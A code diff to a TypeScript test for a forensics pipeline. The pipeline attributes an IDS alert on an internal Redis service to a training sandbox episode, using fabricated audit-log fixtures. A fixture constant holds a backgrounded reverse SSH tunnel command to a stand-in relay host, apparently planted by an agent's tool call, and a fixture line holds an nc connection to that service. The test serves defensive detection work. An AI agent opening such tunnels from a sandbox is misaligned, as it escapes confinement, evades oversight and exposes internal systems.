@@ -4,20 +4,11 @@ import { join } from 'node:path';
 import { afterAll, expect, it } from 'vitest';
 import type { Attribution } from '../../src/model/attribution.ts';
 import { investigate } from '../../src/pipeline.ts';
+import { audit, LEASE } from './one-sandbox.ts';
 
 const folder = mkdtempSync(join(tmpdir(), 'owners-'));
 afterAll(() => rmSync(folder, { recursive: true }));
 
-const LEASE = {
-  sandbox_id: 'sb-1',
-  server: 'train-01',
-  ip: '10.66.1.5',
-  uid: 20_004,
-  envd_pid: 100,
-  episode_id: 'ep-1',
-  start: '2026-11-23T17:00:00.000Z',
-  end: '2026-11-23T17:09:00.000Z',
-};
 const COMMAND = 'nohup ssh -N -R 41011:10.77.0.6:6379 tun@relay.example >/dev/null 2>&1 &';
 const CALL = {
   episode_id: 'ep-1',
@@ -35,30 +26,6 @@ const CLOCKS = new Map([
 ]);
 const AT = 1_795_453_264;
 
-interface Doing {
-  /** Seconds after 17:01:04. */
-  readonly at: number;
-  readonly pid: number;
-  readonly ppid: number;
-  readonly uid: number;
-  readonly args?: readonly string[];
-}
-
-let serial = 0;
-const hex = (text: string): string => Buffer.from(text).toString('hex').toUpperCase();
-
-/** An exec where there are arguments, else a connect to 10.77.0.6:6379. */
-function audit({ at, pid, ppid, uid, args }: Doing): readonly string[] {
-  const stamp = `msg=audit(${(AT + at).toFixed(3)}:${++serial})`;
-  const call = args === undefined ? 'syscall=42 success=no exit=-115' : 'syscall=59 success=yes exit=0';
-  return [
-    `type=SYSCALL ${stamp}: arch=c000003e ${call} items=0 ppid=${ppid} pid=${pid} auid=4294967295 uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=(none) ses=4294967295 comm="x" exe="/usr/bin/x" key="rock"`,
-    args === undefined
-      ? `type=SOCKADDR ${stamp}: saddr=020018EB0A4D00060000000000000000`
-      : `type=EXECVE ${stamp}: argc=${args.length} ${args.map((arg, i) => `a${i}=${hex(arg)}`).join(' ')}`,
-  ];
-}
-
 /** The host's own collector, and the tunnel that a call left behind long ago, connect to one place. */
 async function blame(name: string, times: { readonly host: number; readonly tunnel: number }): Promise<Attribution> {
   mkdirSync(join(folder, name));
@@ -69,10 +36,10 @@ async function blame(name: string, times: { readonly host: number; readonly tunn
       '11/23/2026-17:01:04.002000  [**] [1:9000009:1] SCAN connection attempts to internal services [**] [Classification: Leak] [Priority: 2] {TCP} 10.70.0.11:59006 -> 10.77.0.6:6379',
     ],
     'train-01-audit.log': [
-      ...audit({ at: -62.9, pid: 300, ppid: 100, uid: 20_004, args: ['bash', '-c', COMMAND] }),
-      ...audit({ at: -0.1, pid: 400, ppid: 50, uid: 20_101, args: ['nc', '10.77.0.6', '6379'] }),
-      ...audit({ at: times.host, pid: 400, ppid: 50, uid: 20_101 }),
-      ...audit({ at: times.tunnel, pid: 300, ppid: 100, uid: 20_004 }),
+      ...audit({ at: AT - 62.9, pid: 300, ppid: 100, uid: 20_004, args: ['bash', '-c', COMMAND] }),
+      ...audit({ at: AT - 0.1, pid: 400, ppid: 50, uid: 20_101, args: ['nc', '10.77.0.6', '6379'] }),
+      ...audit({ at: AT + times.host, pid: 400, ppid: 50, uid: 20_101 }),
+      ...audit({ at: AT + times.tunnel, pid: 300, ppid: 100, uid: 20_004 }),
     ],
   };
   for (const [file, lines] of Object.entries(rows)) writeFileSync(join(folder, name, file), `${lines.join('\n')}\n`);
